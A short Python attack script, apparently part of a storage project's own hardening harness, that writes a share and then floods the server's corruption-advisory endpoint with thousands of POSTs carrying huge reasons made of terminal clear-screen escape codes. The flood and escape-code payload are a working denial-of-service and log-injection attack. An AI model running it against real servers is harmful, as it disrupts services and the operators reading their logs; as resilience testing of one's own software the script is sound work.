"""Corruption advisories without number, each with as long a reason as may be."""

from __future__ import annotations

from misc.attack.insiders import lines
from misc.attack.target import Target, again_and_again, from_command_line
from pipegrid.core import base32
from pipegrid.wire import gbs_cbor_bodies

INDEX = b"a fine share now"


def attack(target: Target) -> None:
    """Store a share, and say that it is damaged."""
    requests = target.requests
    path = f"/storage/v1/immutable/{base32.encode(INDEX)}/0/corrupt"
    body = gbs_cbor_bodies.pack_corrupt("\x1b[2J\n" * 8000)
    with lines(target, 4) as line:
        line.send([requests.allocate(INDEX, 1), requests.write(INDEX, 0, b"x")])
        for _ in again_and_again(target, 0.002):
            line.send([requests.request("POST", path, body=body)] * 20)


if __name__ == "__main__":
    attack(from_command_line(__doc__))
